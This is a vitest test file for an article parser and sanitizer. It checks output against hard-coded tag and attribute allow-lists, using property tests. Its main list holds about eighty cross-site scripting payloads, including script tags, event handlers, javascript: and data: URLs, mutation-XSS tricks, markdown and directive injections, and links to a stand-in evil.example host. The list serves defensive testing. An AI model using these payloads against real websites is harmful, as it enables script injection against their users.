import fc from "fast-check"
import { describe, expect, it } from "vitest"
import { parseArticle } from "../parse/index.ts"
import { type ArticleTree, type TreeNode, walk } from "./article-tree.ts"
import { sanitizeTree } from "./sanitize.ts"

/** Written out here, not taken from the policy: a widened policy must meet this list. */
const tags = new Set(
  `a abbr aside b bdi bdo blockquote br caption cite code col colgroup data dd del details dfn div
  dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img input ins kbd li mark ol p pre q rp rt ruby
  s samp section small span strong sub summary sup table tbody td tfoot th thead time tr u ul var
  wbr`.split(/\s+/),
)
const attributes = new Set(
  `abbr align alt checked className colSpan dataBackground dataCallout dataFootnotes dataIcon dataPart dataPartId dataTone dateTime dir
  disabled height href lang reversed rowSpan scope span src start title type vAlign value
  width`.split(/\s+/),
)

const hostile = [
  "<script>alert(1)</script>",
  "text <script>alert(1)</script> text",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<style>*{display:none}</style>",
  "<p style='position:fixed'>x</p>",
  "<link rel=stylesheet href=//evil.example/x.css><p>x</p>",
  "<meta http-equiv=refresh content='0;url=//evil.example'><p>x</p>",
  "<base href=//evil.example/><a href=x>y</a>",
  "<iframe src=//evil.example></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=x.swf></object><embed src=x.swf><applet code=x></applet>",
  "<img src=x onerror=alert(1)>",
  "<img src='x' ONERROR='alert(1)'>",
  "<img/src=x/onerror=alert(1)>",
  "<img src=javascript:alert(1)>",
  "<img src=data:image/svg+xml,<svg/onload=alert(1)>>",
  "<img srcset='x 1x, javascript:alert(1) 2x' src=y>",
  "<img lowsrc=javascript:alert(1) dynsrc=x>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  "<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<math href=javascript:alert(1)>x</math>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href='JaVaScRiPt:alert(1)'>x</a>",
  "<a href='java\nscript:alert(1)'>x</a>",
  "<a href='java\tscript:alert(1)'>x</a>",
  "<a href=' javascript:alert(1)'>x</a>",
  "<a href='\u0001javascript:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href='javascript&colon;alert(1)'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='file:///etc/passwd'>x</a>",
  "<a href='blob:https://x/y'>x</a>",
  "<a href=x target=_blank ping=//evil.example rel=opener download>x</a>",
  "<a id=location name=cookie href=x>y</a>",
  "<p id=getElementById class=evil>x</p>",
  "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
  "<p><input type=password autofocus onfocus=alert(1)>x</p>",
  "<textarea autofocus onfocus=alert(1)></textarea><select onfocus=alert(1)><option>x</select>",
  "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
  "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<x-widget onclick=alert(1)>x</x-widget>",
  "<p is=x-widget>x</p>",
  "<p contenteditable accesskey=x tabindex=1 slot=y part=z>x</p>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></p></noscript>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml version='1.0'?><p onclick=alert(1)>x</p>",
  "<!doctype html><html onload=alert(1)><body onload=alert(1)><p>x</p></body></html>",
  "<section data-part=evil data-part-id=x onclick=alert(1)><p>x</p></section>",
  "<aside data-callout=evil><p>x</p></aside>",
  "<span data-icon=evil>x</span>",
  "<div data-anything=x aria-hidden=true role=button>x</div>",
  "<td onclick=alert(1) background=javascript:alert(1)>x</td>",
  "<table background=javascript:alert(1)><tr><td bgcolor=x>y</td></tr></table>",
  "<ol type=evil start=javascript:alert(1)><li>x</ol>",
  "[x](javascript:alert(1))",
  "[x](JAVASCRIPT:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](vbscript:x)",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "![x](javascript:alert(1))",
  "![x](data:image/png;base64,AAAA)",
  "![x](javascript:alert(1) =30x)",
  "![x](data:image/png;base64,AAAA =30x)",
  "<javascript:alert(1)>",
  "[x][1]\n\n[1]: javascript:alert(1)",
  "[x](https://ok.example \"title' onclick='alert(1)\")",
  "# x {.tab onclick=alert(1)}",
  ":::expander[<img src=x onerror=alert(1)>]\nx\n:::",
  ":::note{onclick=alert(1) .evil #evil}\nx\n:::",
  ":icon[heart]{onclick=alert(1)}",
  ':icon[heart"><script>alert(1)</script>]',
  "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
  "|<img src=x onerror=alert(1)>|\n|-|\n|[x](javascript:alert(1))|",
  "`x`<img src=x onerror=alert(1)>",
  "<div\n\nonclick=alert(1)>",
]

describe("an article", () => {
  it.each(hostile)("holds nothing but what is allowed after %j", (body) => {
    expect(violations(parseArticle(body).tree)).toEqual([])
  })

  it.each([
    ["<p>a<script>b</script>c<style>d</style>e<svg><text>f</text></svg>g</p>", "aceg"],
    ["<p>a<x-y>b</x-y>c</p>", "abc"],
    ["<p>a<marquee>b</marquee>c</p>", "abc"],
    ["<p><a href='javascript:x'>a</a></p>", "a"],
  ])("keeps of %j what is prose: %s", (body, text) => {
    expect(textOf(parseArticle(body).tree)).toBe(text)
  })

  it.each([
    "https://example.org/a",
    "http://example.org",
    "mailto:a@example.org",
    "tel:+15551234",
    "/article/1210",
    "#dosing",
    "page?q=a:b",
  ])("keeps a link to %s", (href) => {
    const { tree } = parseArticle(`<a href="${href}">x</a>`)
    expect([...walk(tree)][0]).toMatchObject({ tagName: "a", properties: { href } })
  })

  it.each(["https://example.org/a.png", "attachment:7c9e", "/a.png"])(
    "keeps an image of %s",
    (src) => {
      const { tree } = parseArticle(`![x](${src})`)
      expect([...walk(tree)][1]).toMatchObject({ tagName: "img", properties: { src } })
    },
  )
})

describe("sanitizeTree", () => {
  const name = fc.constantFrom(
    ...["p", "div", "a", "img", "h1", "h3", "section", "aside", "span", "table", "tr", "td", "li"],
    ...["input", "script", "svg", "iframe", "x-y", "SCRIPT", "constructor", "ol", "time"],
  )
  const property = fc.constantFrom(
    ...["href", "src", "className", "id", "onClick", "style", "dataPart", "dataPartId", "dataIcon"],
    ...["dataCallout", "title", "type", "checked", "disabled", "is", "srcDoc", "width", "toString"],
  )
  const value = fc.oneof(
    fc.constantFrom("javascript:alert(1)", "https://x.y", "attachment:1", "tab", "note", "heart"),
    fc.constantFrom<unknown>(
      ["tab", "evil"],
      ["evil"],
      true,
      false,
      7,
      null,
      undefined,
      "checkbox",
    ),
    fc.string(),
  )
  const { node } = fc.letrec<{ node: TreeNode }>((tie) => ({
    node: fc.oneof(
      { depthSize: "small", maxDepth: 4 },
      fc.record({ type: fc.constant("text"), value: fc.string() }) as fc.Arbitrary<TreeNode>,
      fc.record({
        type: fc.constantFrom("comment", "raw", "doctype"),
        value: fc.string(),
      }) as fc.Arbitrary<unknown> as fc.Arbitrary<TreeNode>,
      fc.record({
        type: fc.constant("element"),
        tagName: name,
        properties: fc.dictionary(property, value, { maxKeys: 4 }),
        children: fc.array(tie("node"), { maxLength: 3 }),
      }) as fc.Arbitrary<unknown> as fc.Arbitrary<TreeNode>,
    ),
  }))
  const tree = fc
    .array(node, { maxLength: 4 })
    .map((children): ArticleTree => ({ type: "root", children }))

  it("leaves only what is allowed of any tree", () => {
    fc.assert(
      fc.property(tree, (any) => {
        expect(violations(sanitizeTree(any))).toEqual([])
      }),
      { numRuns: 500 },
    )
  })

  it("is the same twice as once", () => {
    fc.assert(
      fc.property(tree, (any) => {
        const once = sanitizeTree(any)
        expect(sanitizeTree(once)).toEqual(once)
      }),
      { numRuns: 500 },
    )
  })

  it("changes nothing in what the parser made", () => {
    for (const body of [...hostile, "# A {.tab}\n\n:::note\n:icon[heart]\n:::\n\n- [ ] x"]) {
      const { tree: made } = parseArticle(body)
      expect(sanitizeTree(made)).toEqual(made)
    }
  })

  it("shares nothing with its input, and leaves it as it was", () => {
    const given = parseArticle("# A {.tab}\n\n![x](attachment:1 =3x)").tree
    const before = structuredClone(given)
    const clean = sanitizeTree(given)
    expect(given).toEqual(before)
    const nodes = new Set<unknown>(walk(given))
    for (const kept of walk(clean)) expect(nodes.has(kept)).toBe(false)
  })
})

function violations(tree: ArticleTree): string[] {
  return [...walk(tree)].flatMap((node) => {
    if (node.type === "text") return Object.keys(node).length === 2 ? [] : ["a text with more"]
    if ((node.type as string) !== "element") return [`a ${node.type as string}`]
    const { tagName, properties } = node
    return [
      ...(tags.has(tagName) ? [] : [`<${tagName}>`]),
      ...Object.entries(properties).flatMap(([key, value]) => {
        if (!attributes.has(key)) return [`${tagName}[${key}]`]
        if (key === "href" && !/^(https?:|mailto:|tel:|[^:]*$|[^:]*[/?#])/.test(String(value)))
          return [`${tagName}[href=${String(value)}]`]
        if (
          key === "src" &&
          !/^(https?:|attachment:|[^:]*$|[^:]*[/?#])/.test(String(value)) &&
          !/^icon:/.test(String(value))
        )
          return [`${tagName}[src=${String(value)}]`]
        if (key === "className" && JSON.stringify([value].flat()) !== '["tab"]')
          return [`${tagName}[class=${String(value)}]`]
        if (tagName === "input" && properties["type"] !== "checkbox") return ["an input"]
        return []
      }),
    ]
  })
}

function textOf(tree: ArticleTree): string {
  return [...walk(tree)].map((node) => (node.type === "text" ? node.value : "")).join("")
}
